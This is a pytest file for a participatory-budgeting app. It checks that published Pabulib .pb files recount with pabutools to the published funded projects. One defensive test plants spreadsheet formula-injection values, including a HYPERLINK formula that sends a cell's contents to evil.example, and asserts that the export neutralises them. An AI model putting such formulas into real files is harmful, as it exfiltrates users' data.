"""Every published .pb file is read by pabutools and recounts, with pabutools' own rules, to
the published outcome (the file's ``selected`` column and ``resultados.csv``)."""

import csv
from pathlib import Path

import pytest

from participa.budgets.models import Ballot, BallotItem
from participa.extensions import db
from participa.interop.pabulib import import_pb
from participa.opendata import services
from participa.results.services import request_tally
from participa.results.tasks import run_tally
from participa.tallying.pabulib import parse, read
from tests import factories as f
from tests.conftest import need
from tests.support.opendata import folder_of, tallied_process
from tests.support.pabulib import PABULIB

pabutools = pytest.importorskip("pabutools")
from pabutools.election import Cardinality_Sat, Cost_Sat, Instance, parse_pabulib  # noqa: E402
from pabutools.election.instance import total_cost  # noqa: E402
from pabutools.fractions import frac  # noqa: E402
from pabutools.rules import greedy_utilitarian_welfare, method_of_equal_shares  # noqa: E402
from pabutools.tiebreaking import TieBreakingRule  # noqa: E402

from tests.support.pabutools import GREEDY_SAT, no_skip_walk  # noqa: E402


def recount(path: Path) -> set[str]:
    """The funded project ids of ``path`` by pabutools, with the rule the file declares.
    Ties the rule cannot decide go to the order of the file's PROJECTS section (the
    ballot's order), as ours do."""
    from participa.tallying import VoteType

    text = path.read_text(encoding="utf-8")
    meta, order = parse(text).meta, list(parse(text).projects)
    rank = {name: i for i, name in enumerate(order)}
    rule, vote_type = meta["rule"], VoteType(meta["vote_type"])
    instance, profile = parse_pabulib(str(path))
    by_order = TieBreakingRule(lambda inst, prof, proj: rank[proj.name])
    if rule.startswith("greedy"):
        sat = GREEDY_SAT[vote_type]
        scores = {
            p.name: frac(profile.as_sat_profile(sat).total_satisfaction_project(p), p.cost)
            for p in instance
        }
        if rule == "greedy-no-skip":
            ranking = sorted(instance, key=lambda p: (-scores[p.name], rank[p.name]))
            return {p.name for p in no_skip_walk(ranking, instance.budget_limit)}
        if rule == "greedy-threshold":
            least = int(meta["min_project_score_threshold"])
            instance = Instance(
                [p for p in instance if scores[p.name] >= least],
                budget_limit=instance.budget_limit,
            )
        funded = greedy_utilitarian_welfare(instance, profile, sat_class=sat, tie_breaking=by_order)
        return {p.name for p in funded}
    sat = Cardinality_Sat if "cardinality" in rule else Cost_Sat
    mes_ties = TieBreakingRule(
        lambda inst, prof, proj: (proj.cost, -prof.approval_score(proj), rank[proj.name])
    )

    def mes(budget_limit):
        scaled = Instance(instance, budget_limit=budget_limit)
        return method_of_equal_shares(scaled, profile, sat_class=sat, tie_breaking=mes_ties)

    if rule in ("equalshares", "equalshares-cardinality"):
        return {p.name for p in mes(instance.budget_limit)}
    assert rule.endswith("/add1"), f"no pabutools recount written for {rule}"
    # README Add1: floor(budget / n) per voter, one unit more while the outcome fits.
    n = profile.num_ballots()
    supported = {p.name for ballot in profile for p in ballot}
    enough = sum(p.cost for p in instance)
    per_voter = int(instance.budget_limit) // n
    best = mes(per_voter * n)
    while {p.name for p in best} != supported and per_voter < enough:
        per_voter += 1
        attempt = mes(per_voter * n)
        if total_cost(attempt) > instance.budget_limit:
            break
        best = attempt
    return {p.name for p in best}


def published_outcome(folder: Path, pb_path: Path) -> tuple[set[str], set[str]]:
    """The funded ids in the .pb file's ``selected`` column and in ``resultados.csv``
    (mapped to the file's project ids)."""
    pb = read(pb_path)
    in_file = {code for code, row in pb.projects.items() if row.get("selected") == "1"}
    budget_id = int(pb_path.stem.rsplit("-", 1)[1])
    with open(folder / "proyectos.csv", encoding="utf-8") as handle:
        code = {
            r["id"]: r["code"] or r["id"]
            for r in csv.DictReader(handle)
            if int(r["budget_id"]) == budget_id
        }
    with open(folder / "resultados.csv", encoding="utf-8") as handle:
        in_csv = {
            code[r["project_id"]]
            for r in csv.DictReader(handle)
            if int(r["budget_id"]) == budget_id and r["selected"] == "true"
        }
    return in_file, in_csv


def publish_and_check(process) -> int:
    publication = services.publish(process, "manual")
    db.session.commit()
    folder = folder_of(publication)
    files = sorted(folder.glob("*.pb"))
    assert files, "no .pb file was published"
    for path in files:
        in_file, in_csv = published_outcome(folder, path)
        assert in_file == in_csv
        assert recount(path) == in_file, path.name
    return len(files)


CASES = {
    "greedy-knapsack": ("greedy", "knapsack", {}, None),
    "greedy-no-skip": ("greedy-no-skip", "approval", {}, None),
    "greedy-threshold": ("greedy-threshold", "approval", {"min_score": 3}, None),
    "equalshares": ("equalshares", "approval", {}, None),
    "equalshares-add1": ("equalshares/add1", "approval", {}, None),
    "greedy-cumulative": (
        "greedy",
        "cumulative",
        {"max_total_points": 6},
        lambda p: [([p[0], p[2]], [4, 2]), ([p[1]], [5]), ([p[2], p[3]], [3, 3]), ([p[0]], [6])],
    ),
    "greedy-ordinal": (
        "greedy",
        "ordinal",
        {"max_projects": 3},
        lambda p: [([p[0], p[2], p[1]], None), ([p[2], p[3]], None), ([p[1], p[2]], None)],
    ),
}


@pytest.mark.parametrize("case", CASES)
def test_published_pb_recounts_with_pabutools(ctx, case):
    rule, ballot_type, options, selections = CASES[case]
    process, _budget, _voters = tallied_process(
        rule=rule, ballot_type=ballot_type, selections=selections, **options
    )
    assert publish_and_check(process) == 1


REAL = [
    "Poland_Czestochowa_2024_Stradom.pb",  # cumulative, greedy
    "Poland_Katowice_2022_Podlesie.pb",  # cumulative, greedy-threshold
    "Poland_Gdynia_2025_Dzialki_Lesne__small.pb",  # approval, greedy-no-skip
    "Poland_Swiecie_2023.pb",  # approval, equalshares/add1
]


@pytest.mark.parametrize("name", REAL)
def test_imported_real_budget_republished_recounts_with_pabutools(ctx, name):
    path = PABULIB / name
    if not path.exists():
        need(False, f"{path} is missing")
    report = import_pb(read(path))
    run = request_tally(report.budget)
    db.session.commit()
    run_tally(run.id)
    assert publish_and_check(report.budget.process) == 1


def test_several_budgets_each_get_a_pb(ctx):
    process, _budget, _voters = tallied_process()
    other = f.budget(process, amount=500, costs=(300, 250, 200))
    q1, q2, q3 = f.project_ids(other)
    for n, chosen in enumerate([[q1, q3], [q2], [q2, q3], [q1]]):
        ballot = Ballot(budget_id=other.id, voter_ref=f"papel-{n}", channel="booth")
        db.session.add(ballot)
        db.session.flush()
        for pid in chosen:
            db.session.add(BallotItem(ballot_id=ballot.id, budget_id=other.id, project_id=pid))
    db.session.commit()
    run = request_tally(other)
    db.session.commit()
    run_tally(run.id)
    assert publish_and_check(process) == 2


def test_published_pb_neutralises_formula_text_like_the_csvs_and_still_recounts(ctx):
    """A .pb opens in a spreadsheet too: its text cells get the CSVs' leading apostrophe;
    its ids, costs and votes stay as they are, so it recounts to the same outcome."""
    process, budget, _voters = tallied_process()
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Ver")'
    projects = sorted(budget.projects, key=lambda p: (p.position, p.id))
    projects[0].title = formula
    projects[1].title = "-Bacheo"
    process.municipality = "@SUM(1+1)"
    budget.title = "+Obras"
    db.session.commit()
    publish_and_check(process)  # pabutools recounts it to the published outcome
    folder = folder_of(services.latest_publication(process.id))
    pb = read(folder / f"presupuesto-{budget.id}.pb")
    names = [row["name"] for row in pb.projects.values()]
    assert names[0] == "'" + formula and names[1] == "'-Bacheo"
    assert not any(n[:1] in "=+-@" for n in names)
    assert pb.meta["unit"] == "'@SUM(1+1)" and pb.meta["subunit"] == "'+Obras"
    assert pb.meta["description"] == f"{process.title}: +Obras"  # starts with the title
    assert list(pb.projects) == [str(p.id) for p in projects]  # ids untouched
    assert [row["cost"] for row in pb.projects.values()] == [str(p.cost) for p in projects]
    with open(folder / "proyectos.csv", encoding="utf-8") as handle:
        in_csv = {r["id"]: r["title"] for r in csv.DictReader(handle)}
    assert [in_csv[code] for code in pb.projects] == names  # the same rule as the CSV
